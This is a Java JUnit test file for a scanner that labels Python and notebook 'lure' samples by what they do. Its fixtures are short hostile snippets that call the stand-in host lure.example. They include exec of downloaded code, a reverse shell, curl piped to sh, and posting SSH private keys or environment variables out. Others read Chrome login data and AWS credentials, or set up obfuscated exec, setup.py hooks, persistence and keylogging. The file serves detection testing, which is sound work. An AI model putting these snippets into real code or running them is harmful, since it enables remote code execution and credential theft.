package dev.countersign.lure.code;

import static dev.countersign.lure.code.Kind.LOGS_KEYS;
import static dev.countersign.lure.code.Kind.OBFUSCATED;
import static dev.countersign.lure.code.Kind.PERSISTENCE;
import static dev.countersign.lure.code.Kind.READS_BROWSER;
import static dev.countersign.lure.code.Kind.READS_KEYS;
import static dev.countersign.lure.code.Kind.RUNS_DECODED_CODE;
import static dev.countersign.lure.code.Kind.RUNS_FETCHED_CODE;
import static dev.countersign.lure.code.Kind.SELF_DELETES;
import static dev.countersign.lure.code.Kind.SENDS_SECRETS;
import static dev.countersign.lure.code.Kind.STARTS_SHELL_DOWNLOAD;
import static dev.countersign.lure.code.Kind.UNSAFE_DESERIALISATION;
import static dev.countersign.lure.code.Kind.WATCHES_CLIPBOARD;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Lures in Python and notebooks: each does what is said of it when it is loaded. */
class PythonLuresTest {
  record Lure(String file, Kind kind, String code) {}

  static List<Lure> lures() {
    return List.of(
        new Lure(
            "a.py",
            RUNS_FETCHED_CODE,
            "import requests\nexec(requests.get('https://lure.example/p').text)\n"),
        new Lure(
            "b.py",
            RUNS_FETCHED_CODE,
            "from urllib.request import urlopen as u\nd = u('https://lure.example').read().decode()\neval(compile(d, 'x', 'exec'))\n"),
        new Lure(
            "c.py",
            RUNS_FETCHED_CODE,
            "import urllib2\ncode = urllib2.urlopen('http://lure.example').read()\nexec code\n"),
        new Lure(
            "d.py",
            RUNS_FETCHED_CODE,
            "import os, sys, subprocess, tempfile, requests as r\np = os.path.join(tempfile.gettempdir(), 'x.py')\nwith open(p, 'wb') as f:\n    f.write(r.get('http://lure.example').content)\nsubprocess.Popen([sys.executable, p])\n"),
        new Lure(
            "e.py",
            RUNS_FETCHED_CODE,
            "import urllib.request, os\nurllib.request.urlretrieve('http://lure.example/b', '/tmp/b')\nos.chmod('/tmp/b', 0o755)\nos.system('/tmp/b')\n"),
        new Lure(
            "f.py",
            RUNS_FETCHED_CODE,
            "import socket, subprocess\ns = socket.socket()\ns.connect(('lure.example', 4444))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))\n"),
        new Lure(
            "g.py",
            RUNS_FETCHED_CODE,
            "import httpx\ndef get(u):\n    return httpx.get(u).json()['code']\ndef run():\n    src = get('https://lure.example')\n    exec(src, globals())\nif __name__ == '__main__':\n    run()\n"),
        new Lure(
            "h.py",
            RUNS_FETCHED_CODE,
            "import requests, base64\nr = requests.get('https://lure.example')\ne = getattr(__builtins__, 'ex' + 'ec')\ne(base64.b64decode(r.content))\n"),
        new Lure(
            "i.py",
            RUNS_FETCHED_CODE,
            "import requests, pickle\nmodel = pickle.loads(requests.get('https://lure.example/m').content)\n"),
        new Lure(
            "j.py",
            UNSAFE_DESERIALISATION,
            "import requests, pickle\nmodel = pickle.loads(requests.get('https://lure.example/m').content)\n"),
        new Lure(
            "k.py",
            RUNS_FETCHED_CODE,
            "import asyncio, aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('https://lure.example') as r:\n            exec(await r.text())\nasyncio.run(main())\n"),
        new Lure(
            "setup.py",
            RUNS_DECODED_CODE,
            "from setuptools import setup\nimport base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\nsetup(name='x')\n"),
        new Lure(
            "m.py",
            RUNS_DECODED_CODE,
            "import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJwDAAAAAAE='))))\n"),
        new Lure(
            "n.py",
            RUNS_DECODED_CODE,
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==AAAAAADwHe'))\n"),
        new Lure(
            "o.py",
            OBFUSCATED,
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==AAAAAADwHe'))\n"),
        new Lure(
            "p.py",
            RUNS_DECODED_CODE,
            "k = 'key'\nd = bytes.fromhex('0a0b0c')\no = ''.join(chr(c ^ ord(k[i % 3])) for i, c in enumerate(d))\nexec(o)\n"),
        new Lure(
            "q.py",
            RUNS_DECODED_CODE,
            "exec(''.join([chr(x) for x in [112, 114, 105, 110, 116, 40, 49, 41]]))\n"),
        new Lure(
            "r.py",
            STARTS_SHELL_DOWNLOAD,
            "__import__('os').system('curl https://lure.example | sh')\n"),
        new Lure(
            "s.py",
            STARTS_SHELL_DOWNLOAD,
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8veC5leGFtcGxlL2Euc2ggfCBiYXNoIik='))\n"),
        new Lure(
            "t.py",
            READS_BROWSER,
            "import os, shutil, sqlite3\nlocal = os.path.expandvars('%LOCALAPPDATA%')\ndb = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nshutil.copy2(db, 'x.db')\n"),
        new Lure(
            "u.py",
            SENDS_SECRETS,
            "import os, requests\nfor k in ['id_rsa', 'id_ed25519']:\n    p = os.path.expanduser('~/.ssh/' + k)\n    with open(p) as f:\n        requests.post('https://lure.example', data={'k': f.read()})\n"),
        new Lure(
            "v.py",
            SENDS_SECRETS,
            "import os, requests, json\nrequests.post('https://lure.example', data=json.dumps(dict(os.environ)))\n"),
        new Lure(
            "w.py",
            READS_KEYS,
            "from pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\n"),
        new Lure(
            "x.py",
            LOGS_KEYS,
            "from pynput import keyboard\ndef on(key):\n    pass\nkeyboard.Listener(on_press=on).start()\n"),
        new Lure(
            "y.py",
            WATCHES_CLIPBOARD,
            "import pyperclip, time\nwhile True:\n    c = pyperclip.paste()\n    time.sleep(1)\n"),
        new Lure(
            "z.py",
            PERSISTENCE,
            "import os\nwith open(os.path.expanduser('~/Library/LaunchAgents/com.x.plist'), 'w') as f:\n    f.write('<plist/>')\n"),
        new Lure(
            "aa.py",
            PERSISTENCE,
            "import winreg\nwinreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'), 'x', 0, 1, 'p')\n"),
        new Lure("ab.py", SELF_DELETES, "import os\nos.remove(__file__)\n"),
        new Lure(
            "ac.py",
            SENDS_SECRETS,
            "import socket, getpass, requests\nrequests.get('https://lure.example/?h=' + socket.gethostname() + '&u=' + getpass.getuser())\n"),
        new Lure(
            "ad.ipynb",
            STARTS_SHELL_DOWNLOAD,
            "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl -s https://lure.example | bash\"]}]}"),
        new Lure(
            "ae.ipynb",
            RUNS_FETCHED_CODE,
            "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"import requests\\n\",\"r = requests.get('https://lure.example')\"]},{\"cell_type\":\"code\",\"source\":\"exec(r.text)\"}]}"));
  }

  @ParameterizedTest
  @MethodSource("lures")
  void seesWhatTheLureDoes(Lure lure) {
    assertThat(Samples.onLoad(lure.file(), lure.code())).contains(lure.kind());
  }
}
